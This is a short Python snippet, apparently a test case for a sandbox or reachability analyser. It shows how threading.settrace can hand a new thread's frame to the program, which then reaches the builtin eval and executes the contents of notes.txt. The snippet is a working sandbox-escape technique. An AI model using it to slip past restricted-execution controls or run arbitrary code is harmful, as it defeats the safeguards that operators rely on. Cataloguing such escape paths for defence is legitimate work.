# reaches: threading.settrace hands frames of new threads to the program
import threading
def spy(frame, event, arg):
    threading.settrace(None)
    frame.f_builtins["eval"](open("notes.txt").read())
threading.settrace(spy)
t = threading.Thread(target=int)
t.start()
t.join()
